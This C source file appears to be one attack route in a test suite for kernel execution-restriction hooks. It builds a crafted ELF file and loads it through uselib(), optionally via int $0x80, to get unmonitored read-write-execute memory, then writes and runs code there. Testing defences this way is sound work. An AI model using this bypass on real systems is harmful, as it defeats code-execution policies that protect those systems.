// SPDX-License-Identifier: GPL-2.0
/*
 * Route 13: uselib() of an ELF "library" whose only, executable segment
 * is all zero-fill. The loader opens the file without any exec hook and
 * maps the segment with vm_brk_flags(VM_EXEC) only, so no mmap hook sees
 * it either: anonymous read-write-execute memory at the address the file
 * names. Code is written there and called. With argument "int80" the
 * call goes through the 32-bit entry (int $0x80, i386 number 86).
 */
#define ATTACK_NAME "uselib_exec_tail"
#include "file.h"
#include "elf_craft.h"
#include <sys/syscall.h>

#define NR_USELIB_I386 86

static long uselib_int80(const char *path)
{
	long ret;

	/* int $0x80 takes 32-bit pointers: the path must be below 4 GiB. */
	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(NR_USELIB_I386), "b"((unsigned int)(uintptr_t)path)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

int main(int argc, char **argv)
{
	int int80 = argc > 1 && !strcmp(argv[1], "int80");
	struct elf_craft img;
	const char *dir;
	char *path;
	long ret;
	int err;

	attack_init();
	path = mmap(NULL, ATTACK_PAGE, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (path == MAP_FAILED)
		attack_error("mmap MAP_32BIT: %s", strerror(errno));
	dir = attack_scratch_create();
	if ((size_t)snprintf(path, ATTACK_PAGE, "%s/lib.elf", dir) >= ATTACK_PAGE)
		attack_error("scratch path too long");
	elf_craft_build(&img, ET_EXEC, 0);
	attack_write_file(path, &img, sizeof(img), 0700);

	if (int80) {
		ret = uselib_int80(path);
		err = ret < 0 ? (int)-ret : 0;
	} else {
		ret = syscall(SYS_uselib, path);
		err = ret < 0 ? errno : 0;
	}
	attack_scratch_remove(dir);
	if (err == ENOSYS)
		attack_error("uselib() is not built into this kernel (CONFIG_USELIB)");
	if (err)
		attack_step_failed(int80 ? "uselib() via int $0x80" : "uselib()", err);
	if (attack_addr_executable((void *)ELF_CRAFT_TAIL) != 1)
		attack_error("uselib() succeeded but %#lx is not executable", ELF_CRAFT_TAIL);
	attack_write_payload((void *)ELF_CRAFT_TAIL);
	attack_run_payload((void *)ELF_CRAFT_TAIL);
}
